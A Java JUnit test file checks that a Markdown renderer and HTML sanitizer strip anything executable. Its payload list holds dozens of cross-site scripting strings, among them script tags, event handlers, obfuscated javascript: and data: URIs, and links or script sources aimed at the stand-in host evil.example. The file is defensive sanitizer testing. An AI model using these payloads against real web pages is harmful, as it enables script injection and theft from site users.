package laurel.markup;

import java.util.List;
import java.util.Map;
import java.util.Set;

import laurel.lang.Language;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import static org.assertj.core.api.Assertions.assertThat;

/** Whatever is typed, and whatever a renderer would make of it, nothing of it runs. */
class SanitizerTest {

	/** What may stand in a text, and with which attributes. */
	private static final Map<String, Set<String>> ALLOWED = Map.ofEntries(Map.entry("h2", Set.of("id")),
			Map.entry("h3", Set.of("id")), Map.entry("h4", Set.of("id")), Map.entry("p", Set.of()),
			Map.entry("br", Set.of()), Map.entry("ul", Set.of()), Map.entry("ol", Set.of("start")),
			Map.entry("li", Set.of("id")), Map.entry("em", Set.of()), Map.entry("strong", Set.of()),
			Map.entry("a", Set.of("href", "rel", "aria-label", "aria-describedby", "id")),
			Map.entry("span", Set.of("lang")), Map.entry("sup", Set.of()), Map.entry("figure", Set.of("class", "id")),
			Map.entry("blockquote", Set.of("lang")), Map.entry("figcaption", Set.of()),
			Map.entry("div", Set.of("class")));

	private final Markdown markdown = TestMarkdown.create();

	@ParameterizedTest
	@MethodSource("payloads")
	void nothingThatIsTypedRuns(String payload) {
		assertHarmless(this.markdown.render(payload, Language.EN).html().toString());
		assertHarmless(this.markdown
			.render("> {lang=es}\n> " + payload + "\n> — " + payload, Language.ES, Anchors.ofPart("transcript"))
			.html()
			.toString());
	}

	@ParameterizedTest
	@MethodSource("payloads")
	void nothingThatARendererLetsThroughRuns(String payload) {
		assertHarmless(Sanitizer.sanitize(payload).toString());
	}

	private static void assertHarmless(String html) {
		Document page = Jsoup.parse("<!doctype html><main>" + html + "</main>");
		assertThat(page.body().children()).extracting(Element::normalName).containsExactly("main");
		for (Element element : page.select("main *")) {
			assertThat(ALLOWED).containsKey(element.normalName());
			assertThat(element.attributes()).extracting(Attribute::getKey)
				.isSubsetOf(ALLOWED.get(element.normalName()));
		}
		assertThat(page.select("a[href]").eachAttr("href"))
			.allMatch((href) -> href.matches("(https?://[^/\\\\]|mailto:|tel:|#|/(?![/\\\\])).*"));
		assertThat(page.select("[class]").eachAttr("class")).isSubsetOf("quote", "footnotes");
		assertThat(page.select("[id]").eachAttr("id")).allMatch((id) -> id.matches("[a-z0-9-]{1,80}"));
	}

	@Test
	void goodMarkupPassesUnchanged() {
		String good = "<h2 id=\"a-1\">A</h2><p>B <em>c</em><br /><a href=\"/en/\">d</a></p><ol start=\"3\"><li>e</li></ol>";
		assertThat(Sanitizer.sanitize(good)).hasToString(good);
	}

	static List<String> payloads() {
		return List.of("<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
				"<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>",
				"<img src=\"data:image/png,x\">", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
				"<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
				"<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
				"<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
				"<object data=data:text/html,x></object>", "<embed src=//evil.example>", "<base href=//evil.example>",
				"<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
				"<style>*{background:url(//evil.example)}</style>",
				"<p style=\"background:url(javascript:alert(1))\">x</p>", "<p onclick=alert(1)>x</p>",
				"<a href=javascript:alert(1)>x</a>", "<a href=\" javascript:alert(1)\">x</a>",
				"<a href=\"java&#9;script:alert(1)\">x</a>", "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
				"<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a href=//evil.example>x</a>",
				"<a href=\"/\\evil.example\">x</a>", "<a href=# target=_blank onmouseover=alert(1)>x</a>",
				"<a href=\"https://example.org\" rel=opener ping=//evil.example download>x</a>",
				"<form action=//evil.example><input name=x autofocus onfocus=alert(1)><button>y</button></form>",
				"<textarea><script>alert(1)</script>", "<details open ontoggle=alert(1)>x</details>",
				"<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>",
				"</main><script>alert(1)</script>", "<template><script>alert(1)</script></template>",
				"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><script>alert(1)</script>-->",
				"<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><x onclick=alert(1)>",
				"<span lang=\"en\" class=\"exit\" id=\"main\">x</span>",
				"<figure class=\"alert\" id=\"Main\">x</figure>",
				"<h1>One</h1><h5>Five</h5><table><tr><td>x</td></tr></table>", "[x](javascript:alert(1))",
				"[x](JaVaScRiPt:alert%281%29)", "[x](<java\tscript:alert(1)>)", "[x](&#106;avascript:alert(1))",
				"[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)", "[x](//evil.example)",
				"[x](/\\\\evil.example)", "<javascript:alert(1)>", "![x](javascript:alert(1))",
				"![x](data:image/svg+xml,<svg/onload=alert(1)>)", "![x\" onerror=\"alert(1)](https://evil.example)",
				"[x](https://example.org \"\" onclick=alert(1) \"\")", "[x](https://example.org/\"onclick=alert(1)//)",
				"[x\"><script>alert(1)</script>](/en/)", "[x]{lang=en\" onclick=\"alert(1)}",
				"## x\" onclick=\"alert(1)", "[^\"><script>]\n\n[^\"><script>]: x",
				"```html\n<script>alert(1)</script>\n```", "`<script>alert(1)</script>`",
				"[x]: javascript:alert(1)\n\n[x]");
	}

}
